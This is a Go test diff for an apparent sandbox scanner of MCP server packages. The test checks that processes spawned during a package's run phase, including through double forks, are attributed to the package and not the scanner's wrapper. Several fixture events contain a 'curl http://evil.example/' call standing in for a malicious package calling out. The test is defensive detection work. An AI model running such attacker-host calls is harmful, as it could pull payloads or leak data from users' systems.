@@ -139,3 +139,37 @@ func TestProvenanceForksDropped(t *testing.T) {
 		t.Errorf("provenance %v, want [%s %s]", got, pm, pk)
 	}
 }
+
+// TestProvenanceRunEntryFromTree: the run phase's entry point is the
+// process the run wrapper (35, started before the tracer attached: no
+// fork event of its own) forked, whether the tracer recorded the
+// wrapper's own exec after the release (seen in a scan of a harmless
+// wheel: the server was then blamed on the package) or missed the server's
+// exec; what the server starts is the package's, through a double fork
+// too.
+func TestProvenanceRunEntryFromTree(t *testing.T) {
+	server := "/work/tree/venv/bin/python /work/tree/venv/bin/harmless-mcp"
+	forks := map[int][]forkRec{42: {{PPID: 35}}, 50: {{PPID: 42}}, 51: {{PPID: 50}}, 52: {{PPID: 51}}}
+	tests := []struct {
+		name   string
+		events []execEvent
+		want   []evidence.Provenance
+	}{
+		{"wrapper_exec_seen", []execEvent{ev(35, 0, "bash -c wrapper verifymcp-wait "+server), ev(42, 35, server), ev(50, 42, "curl http://evil.example/")}, []evidence.Provenance{sb, sb, pk}},
+		{"server_exec_seen", []execEvent{ev(42, 35, server), ev(50, 42, "sh -c ls")}, []evidence.Provenance{sb, pk}},
+		{"server_exec_missed", []execEvent{ev(50, 42, "sh -c ls"), ev(52, 1, "curl http://evil.example/")}, []evidence.Provenance{pk, pk}},
+		{"double_fork_orphan", []execEvent{ev(42, 35, server), ev(52, 1, "curl http://evil.example/")}, []evidence.Provenance{sb, pk}},
+	}
+	for _, tc := range tests {
+		t.Run(tc.name, func(t *testing.T) {
+			w := testWatch(t, 0, forks)
+			w.obs.nforks = len(forks)
+			w.addProcesses(evidence.PhaseRun, tc.events, nil)
+			for i, p := range w.b.Processes {
+				if p.Provenance != tc.want[i] || p.Expected != (tc.want[i] == sb) {
+					t.Errorf("%s: %s (expected %v), want %s", strings.Join(p.Argv, " "), p.Provenance, p.Expected, tc.want[i])
+				}
+			}
+		})
+	}
+}
